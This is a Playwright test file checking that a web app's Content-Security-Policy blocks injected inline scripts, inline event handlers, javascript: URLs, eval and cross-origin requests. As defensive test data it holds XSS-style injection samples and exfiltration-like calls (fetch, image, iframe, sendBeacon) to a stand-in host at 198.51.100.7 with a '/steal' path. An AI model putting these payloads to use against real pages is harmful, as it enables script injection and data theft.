import { expect, test, type Page } from '@playwright/test';
import { numberAttr, openLab, WEB_ORIGIN } from './web-helpers';

/**
 * The browser build's Content-Security-Policy (the <meta> in src-renderer/index.html, the same policy main sends
 * as a header in Electron) holds in a real Chromium: injected inline script and inline handlers do not run, eval
 * and new Function throw, requests to another origin are blocked, and the app itself never makes one.
 * Scripts injected through page.evaluate (DevTools protocol) are not subject to CSP; what they add to the DOM is.
 */

type Violation = { directive: string; blocked: string };

/** Start recording securitypolicyviolation events in the page (read with `violations`). */
async function recordViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: { directive: string; blocked: string }[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

test.describe('browser build: content security policy', () => {
  test.beforeEach(async ({ page }) => {
    await page.goto('/');
    await expect(page.getByRole('navigation', { name: 'Sections' })).toBeVisible();
    await recordViolations(page);
  });

  test('an injected inline <script> does not run and reports a script-src violation', async ({ page }) => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = 1;';
      document.body.appendChild(script);
    });
    await expect.poll(async () => (await violations(page)).some((v) => v.directive === 'script-src-elem' || v.directive === 'script-src')).toBe(true);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect((await violations(page)).find((v) => v.directive.startsWith('script-src'))?.blocked).toBe('inline');
  });

  test('injected inline event handlers and javascript: URLs do not run', async ({ page }) => {
    await page.evaluate(() => {
      const box = document.createElement('div');
      box.innerHTML = '<img alt="" src="./does-not-exist.png" onerror="window.__pwnedHandler = 1">';
      document.body.appendChild(box);
      const link = document.createElement('a');
      link.href = 'javascript:window.__pwnedUrl = 1';
      document.body.appendChild(link);
      link.click();
    });
    await expect.poll(async () => (await violations(page)).filter((v) => v.blocked === 'inline').length).toBeGreaterThanOrEqual(2);
    expect(await page.evaluate(() => (window as unknown as { __pwnedHandler?: number }).__pwnedHandler)).toBeUndefined();
    expect(await page.evaluate(() => (window as unknown as { __pwnedUrl?: number }).__pwnedUrl)).toBeUndefined();
  });

  test('eval and new Function throw (no unsafe-eval), while WebAssembly still compiles (wasm-unsafe-eval)', async ({ page }) => {
    const outcome = await page.evaluate(async () => {
      const attempt = (f: () => unknown) => {
        try {
          return `ran: ${String(f())}`;
        } catch (err) {
          return `threw ${(err as Error).name}`;
        }
      };
      // An empty module: the 8-byte header only.
      const wasm = await WebAssembly.compile(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])).then(
        () => 'compiled',
        (err: Error) => `failed: ${err.message}`,
      );
      return {
        // Indirect eval('1'): the same CSP check as a direct call (which the lint rule forbids writing at all).
        eval: attempt(() => (0, eval)('1')),
        fn: attempt(() => new Function('return 1')()),
        timeoutString: attempt(() => (setTimeout as unknown as (code: string) => number)('window.__pwnedTimeout = 1')),
        wasm,
      };
    });
    expect(outcome.eval).toBe('threw EvalError');
    expect(outcome.fn).toBe('threw EvalError');
    expect(outcome.wasm).toBe('compiled');
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => (window as unknown as { __pwnedTimeout?: number }).__pwnedTimeout)).toBeUndefined();
    await expect.poll(async () => (await violations(page)).filter((v) => v.blocked === 'eval').length).toBeGreaterThanOrEqual(3);
  });

  test('requests to another origin are blocked by the policy before they reach the network', async ({ page, context }) => {
    // Chromium announces an <img> request before the policy cancels it (failure text 'csp'); none may get past it.
    const foreign: string[] = [];
    const blocked: string[] = [];
    const reached: string[] = [];
    context.on('request', (req) => {
      if (!req.url().startsWith(WEB_ORIGIN)) foreign.push(req.url());
    });
    context.on('requestfailed', (req) => {
      if (!req.url().startsWith(WEB_ORIGIN) && /^csp$|BLOCKED_BY_CSP/i.test(req.failure()?.errorText ?? '')) blocked.push(req.url());
    });
    context.on('response', (res) => {
      if (!res.url().startsWith(WEB_ORIGIN)) reached.push(res.url());
    });
    const outcome = await page.evaluate(async () => {
      const fetched = await fetch('http://198.51.100.7/steal?x=1').then(
        () => 'fetched',
        (err: Error) => `rejected ${err.name}`,
      );
      const image = new Image();
      image.src = 'http://198.51.100.7/pixel.png';
      const frame = document.createElement('iframe');
      frame.src = 'http://198.51.100.7/frame';
      document.body.appendChild(frame);
      const beacon = navigator.sendBeacon('http://198.51.100.7/beacon', 'x');
      return { fetched, beacon };
    });
    expect(outcome.fetched).toBe('rejected TypeError');
    await expect
      .poll(async () => new Set((await violations(page)).filter((v) => v.blocked.startsWith('http://198.51.100.7')).map((v) => v.directive)))
      .toEqual(new Set(['connect-src', 'img-src', 'frame-src']));
    expect(outcome.beacon === false || (await violations(page)).filter((v) => v.directive === 'connect-src').length >= 2).toBe(true);
    expect(reached).toEqual([]);
    await expect.poll(() => blocked.length).toBe(foreign.length);
    expect(blocked.sort()).toEqual(foreign.sort());
  });

  test('no request leaves the origin while the app loads, trains and moves between sections', async ({ page, context }) => {
    const urls: string[] = [];
    context.on('request', (req) => urls.push(req.url()));
    await page.goto('/');
    await recordViolations(page);
    await openLab(page);
    await page.getByRole('button', { name: 'Train' }).click();
    await expect.poll(() => numberAttr(page, 'metric-step', 'data-value'), { timeout: 30_000 }).toBeGreaterThan(5);
    await page.getByRole('button', { name: 'Pause' }).click();
    const nav = page.getByRole('navigation', { name: 'Sections' });
    for (const name of ['Lesson', 'Quiz']) {
      await nav.getByRole('link', { name }).click();
      await expect(nav.getByRole('link', { name })).toHaveAttribute('aria-current', 'page');
    }
    expect(urls.length).toBeGreaterThan(0);
    expect(urls.filter((u) => !u.startsWith(`${WEB_ORIGIN}/`) && !u.startsWith('data:') && !u.startsWith('blob:'))).toEqual([]);
    // And the app itself never trips its own policy.
    expect(await violations(page)).toEqual([]);
  });
});
